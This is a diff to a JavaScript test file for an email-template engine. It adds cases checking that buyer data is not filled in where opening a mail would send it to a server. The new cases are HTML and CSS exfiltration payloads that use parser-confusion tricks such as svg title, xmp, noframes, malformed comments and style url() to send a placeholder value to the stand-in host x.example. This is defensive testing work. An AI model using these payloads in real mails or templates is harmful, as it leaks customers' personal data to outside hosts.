@@ -78,6 +78,13 @@ test.each([
   `<noembed><a title="</noembed><img src='https://x.example/?">{V}'>`,
   "<!-- --!><img src='https://x.example/?-->{V}'>",
   "<svg><style><img src='https://x.example/?</style>{V}'>",
+  '<svg><title><img src="https://x.example/{V}"></title></svg>',
+  '<xmp></xmp/><img src="https://x.example/{V}"></xmp>',
+  `<noframes><a title="</noframes><img src='https://x.example/{V}'>">x</a>`,
+  // Where they read a style sheet.
+  "<style/>p{background:url(https://x.example/{V})}</style>",
+  "<!-- --!><style>p{background:url(https://x.example/?-->{V})}</style>",
+  '<noembed><a title="</noembed><style>p{background:url(https://x.example/?">{V})}</style>',
 ])("data of a buyer that the opening of a mail would send to a server is not filled in: %s", (html) => {
   for (const name of OF_BUYER) {
     const template = html.replace("V", name);
@@ -94,6 +101,10 @@ test.each([
   '<img src="https://x.example/logo.png" alt="{V}">',
   "<!--[if mso]><p>{V}</p><![endif]-->",
   '<p title="1 < 2">{V}</p>',
+  "<title>1 < 2 {V}</title>",
+  "<!--[if mso]><style>p{color:red}</style><![endif]--><style><!-- p{color:red} --></style><p>{V}</p>",
+  "<!--[if !mso]><!--><p>{V}</p><!--<![endif]-->",
+  '<!--[if mso]><table><tr><td><![endif]--><img src="/logo.png"/><br/>{V}<!--[if mso]></td></tr></table><![endif]-->',
   "<style>p{color:red}</style><!-- a --><p>1 < 2 {V}",
 ])("it is filled in where it is read: %s", (html) => {
   for (const name of OF_BUYER) {
